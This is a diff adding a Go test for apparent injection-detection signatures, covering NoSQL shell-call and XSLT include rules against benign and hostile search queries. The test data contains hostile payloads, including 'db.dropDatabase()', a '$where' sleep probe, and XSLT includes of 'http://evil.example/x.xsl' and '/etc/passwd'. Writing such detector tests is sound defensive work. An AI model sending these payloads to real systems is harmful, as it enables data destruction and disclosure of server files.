@@ -44,3 +44,33 @@ func TestSigS16ExploitChains(t *testing.T) {
 		}
 	}
 }
+
+// TestSigS16DocsSearches: a docs site's search box quoting a read-only
+// Mongo shell line or an XSLT include of a relative stylesheet is not an
+// injection; the same grammar that loads from outside, writes, drops, or
+// sits in another parameter still is.
+func TestSigS16DocsSearches(t *testing.T) {
+	m := mustCompile(t, Options{})
+	for _, c := range []s12Case{
+		{"GET", "/search", "q=1%3B+db.users.find()", "", 200, "nosqli-shell-call", false},
+		{"GET", "/search", "query=1; db.orders.countDocuments({status: 1})", "", 200, "nosqli-shell-call", false},
+		{"GET", "/search", "q=1; db.users.drop()", "", 200, "nosqli-shell-call", true},
+		{"GET", "/search", "q=1; db.getCollectionNames()", "", 200, "nosqli-shell-call", true},
+		{"GET", "/search", "q=1; db.users.find()&page=2", "", 200, "nosqli-shell-call", true},
+		{"GET", "/search", "q=1; db.users.find(); db.dropDatabase()", "", 200, "nosqli-shell-call", true},
+		{"GET", "/search", "q=1; db.users.find({$where: sleep(5000)})", "", 200, "nosqli-shell-call", true},
+		{"GET", "/search", "q=this.a > 1; db.users.drop()", "", 200, "nosqli-shell-call", true},
+		{"GET", "/api/items", "id=1; db.users.find()", "", 200, "nosqli-shell-call", true},
+		{"GET", "/search", "q=%3Cxsl%3Ainclude+href%3D%22common.xsl%22%2F%3E", "", 200, "xxe-entity", false},
+		{"GET", "/search", "q=<xsl:import href=\"templates/base.xsl\"/>", "", 200, "xxe-entity", false},
+		{"GET", "/search", "q=<xsl:include href=\"http://evil.example/x.xsl\"/>", "", 200, "xxe-entity", true},
+		{"GET", "/api/transform", "xsl=<xsl:import id=\"a\" href=\"file:///etc/passwd\"/>", "", 200, "xxe-entity", true},
+		{"GET", "/search", "q=<xsl:include href=\"../../../etc/passwd\"/>", "", 200, "xxe-entity", true},
+		{"GET", "/search", "q=<xsl:include href='/etc/passwd'/>", "", 200, "xxe-entity", true},
+		{"GET", "/search", "q=<xsl:include xmlns:e=\"urn:x\" href=\"{$u}\"/>", "", 200, "xxe-entity", true},
+	} {
+		if got := s12Fires(t, m, c); got != c.want {
+			t.Errorf("%s %s?%s: %s fired %v, want %v", c.method, c.path, c.query, c.rule, got, c.want)
+		}
+	}
+}
